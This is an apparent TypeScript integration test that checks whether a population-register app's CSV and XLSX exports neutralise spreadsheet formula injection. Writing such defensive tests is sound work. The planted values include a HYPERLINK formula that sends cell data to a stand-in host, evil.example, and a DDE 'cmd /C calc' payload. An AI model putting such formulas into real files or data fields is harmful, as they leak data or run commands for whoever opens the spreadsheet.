import ExcelJS from 'exceljs';
import { randomInt } from 'node:crypto';
import { Readable } from 'node:stream';
import { DataSource } from 'typeorm';
import { makeResidentId } from '../../src/domain/resident-id';
import { Task } from '../../src/tasks/task.entity';
import { District, givenDistrict, givenReIdentificationCampaign, givenUser } from '../support/factories';
import { binaryBody, eventually, startTestApp, TestApp } from '../support/test-app';

/** What a spreadsheet runs as a formula when a cell's text starts with it (OWASP, CSV Injection). */
const TRIGGER = /^[=+\-@\t\r]/;
const LINK = '=HYPERLINK("http://evil.example/?leak="&H2,"点此查看")';

/** Parses CSV text (quoted fields, doubled quotes, CRLF) into rows of fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, field]);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

/** Every text cell of every sheet, with where it stands. */
function textCells(workbook: ExcelJS.Workbook): { where: string; text: string }[] {
  const cells: { where: string; text: string }[] = [];
  for (const sheet of workbook.worksheets)
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (typeof cell.value === 'string') cells.push({ where: `${sheet.name}!${cell.address}`, text: cell.value });
      }),
    );
  return cells;
}

/**
 * Issue 14: cells starting with = + - @ (and tab, carriage return) are neutralised in every CSV and
 * XLSX the server writes. Hostile text is planted through the API (unit names, a register import's
 * names, household number, causes and doctor, a user's display name, a result's note), then every
 * export is downloaded and read back.
 */
describe('formula neutralisation in exports', () => {
  let t: TestApp;
  let district: District;
  let adminToken: string;
  let campaignId: string;
  let failedImportId: string;
  const auth = (token: string) => ({ Authorization: `Bearer ${token}` });
  const planted = {
    township: '-1+2',
    village: LINK,
    householdNumber: '',
    headName: '+1',
    name: '@SUM(1)',
    causeMain: '=1+1',
    causeSecondary: '-1',
    doctor: '@SUM(A1:A9)',
    recorder: "=cmd|' /C calc'!A0",
    note: '-5',
  };

  const download = (path: string) => t.http.get(path).set(auth(adminToken)).buffer(true).parse(binaryBody).expect(200);
  async function workbookOf(path: string): Promise<ExcelJS.Workbook> {
    const res = await download(path);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.read(Readable.from([res.body as Buffer]));
    return workbook;
  }
  const csvOf = async (path: string) => parseCsv((await download(path)).body.toString('utf8').replace(/^\ufeff/, ''));
  const importFile = (rows: string[][]) =>
    t.http
      .post('/api/population/imports')
      .set(auth(adminToken))
      .attach('file', Buffer.from(rows.map((r) => r.map((c) => `"${c.replace(/"/g, '""')}"`).join(',')).join('\r\n')), 'register.csv')
      .expect(202);
  const finished = (id: string) =>
    eventually(
      async () => {
        const res = await t.http.get(`/api/population/imports/${id}`).set(auth(adminToken)).expect(200);
        return ['succeeded', 'failed'].includes(res.body.status) ? (res.body as { status: string }) : undefined;
      },
      30_000,
      'the import',
    );

  beforeAll(async () => {
    t = await startTestApp({ worker: true });
    district = await givenDistrict(t.app);
    planted.householdNumber = `-${district.prefix}`;
    const admin = await givenUser(t.app, 'admin', district.id.county);
    adminToken = await t.login(admin.username, admin.password);

    // Units: a township renamed, a village and its clinic created, all through the API.
    await t.http.patch(`/api/units/${district.id.townships[0]}`).set(auth(adminToken)).send({ name: planted.township }).expect(200);
    const village = await t.http
      .post('/api/units')
      .set(auth(adminToken))
      .send({ code: `${district.prefix}XV`, name: planted.village, kind: 'village', parentId: district.id.townships[0] })
      .expect(201);
    const clinic = await t.http
      .post('/api/units')
      .set(auth(adminToken))
      .send({ code: `${district.prefix}XV-C`, name: '@SUM(1)卫生室', kind: 'village_clinic', parentId: village.body.id })
      .expect(201);

    // The register, through its import.
    const region = String(randomInt(110_000, 660_000));
    const header = [
      '户编号',
      '村代码',
      '户主姓名',
      '姓名',
      '与户主关系',
      '身份证号',
      '脱贫状态',
      '主要致贫原因',
      '次要致贫原因',
      '签约家庭医生',
    ];
    const person = (name: string, relation: string, id: string, head = planted.headName) => [
      planted.householdNumber,
      `${district.prefix}XV`,
      head,
      name,
      relation,
      id,
      '未脱贫',
      planted.causeMain,
      planted.causeSecondary,
      planted.doctor,
    ];
    const ok = await importFile([
      header,
      person(planted.headName, '户主', makeResidentId(region, '1960-05-01', 11)),
      person(planted.name, '之子', makeResidentId(region, '1990-07-02', 21)),
    ]);
    expect((await finished(ok.body.id)).status).toBe('succeeded');
    // A failing import whose report repeats the planted text (a household with two heads).
    const bad = await importFile([
      header,
      person('=A1', '户主', makeResidentId(region, '1961-05-01', 31)),
      person('+A1', '之女', makeResidentId(region, '1991-05-01', 41), '@另一户主'),
    ]);
    failedImportId = bad.body.id;
    expect((await finished(failedImportId)).status).toBe('failed');

    // The recorder's display name, through the users API.
    const staff = await givenUser(t.app, 'staff', clinic.body.id);
    await t.http.patch(`/api/users/${staff.id}`).set(auth(adminToken)).send({ displayName: planted.recorder }).expect(200);
    const staffToken = await t.login(staff.username, staff.password);

    campaignId = (await givenReIdentificationCampaign(t, adminToken, district.id.county, { name: '台账公式', launch: true })).id;
    const task = await t.app.get(DataSource).getRepository(Task).findOneByOrFail({ campaignId, unitId: clinic.body.id });
    const items = await t.http.get(`/api/tasks/${task.id}/items`).set(auth(staffToken)).expect(200);
    for (const item of items.body.items as { id: string }[])
      await t.http
        .put(`/api/tasks/${task.id}/items/${item.id}`)
        .set(auth(staffToken))
        .send({ outcome: 'unreachable', note: planted.note })
        .expect(200);
  }, 120_000);
  afterAll(() => t.stop());

  it('GET /api/campaigns/:id/ledger.xlsx: every planted text starts with a quote, numbers stay numbers', async () => {
    const workbook = await workbookOf(`/api/campaigns/${campaignId}/ledger.xlsx`);
    const ledger = workbook.getWorksheet('识别台账')!;
    const headers = (ledger.getRow(1).values as unknown[]).slice(1) as string[];
    const column = (header: string) => headers.indexOf(header) + 1;
    const rows: ExcelJS.Row[] = [];
    ledger.eachRow((row, n) => {
      if (n > 1 && row.getCell(column('户编号')).value === `'${planted.householdNumber}`) rows.push(row);
    });
    expect(rows).toHaveLength(2);
    for (const row of rows) {
      expect(row.getCell(column('乡镇')).value).toBe(`'${planted.township}`);
      expect(row.getCell(column('村')).value).toBe(`'${planted.village}`);
      expect(row.getCell(column('户主姓名')).value).toBe(`'${planted.headName}`);
      expect(row.getCell(column('主要致贫原因')).value).toBe(`'${planted.causeMain}`);
      expect(row.getCell(column('次要致贫原因')).value).toBe(`'${planted.causeSecondary}`);
      expect(row.getCell(column('签约家庭医生')).value).toBe(`'${planted.doctor}`);
      expect(row.getCell(column('说明')).value).toBe(`'${planted.note}`);
      expect(row.getCell(column('识别人')).value).toBe(`'${planted.recorder}`);
      expect(row.getCell(column('序号')).type).toBe(ExcelJS.ValueType.Number);
      expect(row.getCell(column('年龄')).type).toBe(ExcelJS.ValueType.Number);
    }
    expect(rows.map((r) => r.getCell(column('姓名')).value)).toContain(`'${planted.name}`);
    // The summary names the township and the village the same way.
    const names: unknown[] = [];
    workbook.getWorksheet('汇总')!.eachRow((row) => names.push(row.getCell(1).value));
    expect(names).toEqual(expect.arrayContaining([`'${planted.township}`, `'${planted.village}`]));
    // And nothing anywhere in the workbook starts with a trigger.
    expect(textCells(workbook).filter((c) => TRIGGER.test(c.text))).toEqual([]);
  });

  it('GET /api/population/imports/:id/errors.csv: no field starts with a trigger', async () => {
    const rows = await csvOf(`/api/population/imports/${failedImportId}/errors.csv`);
    expect(rows[0]).toEqual(['行号', '列', '原因']);
    expect(rows.length).toBeGreaterThan(1);
    // The report quotes the planted head name inside its reason; the row number is a plain number.
    expect(rows.slice(1).some((r) => r[2].includes(planted.headName))).toBe(true);
    for (const row of rows) for (const field of row) expect(field).not.toMatch(TRIGGER);
  });

  it.each(['csv', 'xlsx'])('GET /api/population/imports/template.%s: no cell starts with a trigger', async (format) => {
    const path = `/api/population/imports/template.${format}`;
    if (format === 'csv') for (const row of await csvOf(path)) for (const field of row) expect(field).not.toMatch(TRIGGER);
    else expect(textCells(await workbookOf(path)).filter((c) => TRIGGER.test(c.text))).toEqual([]);
  });
});
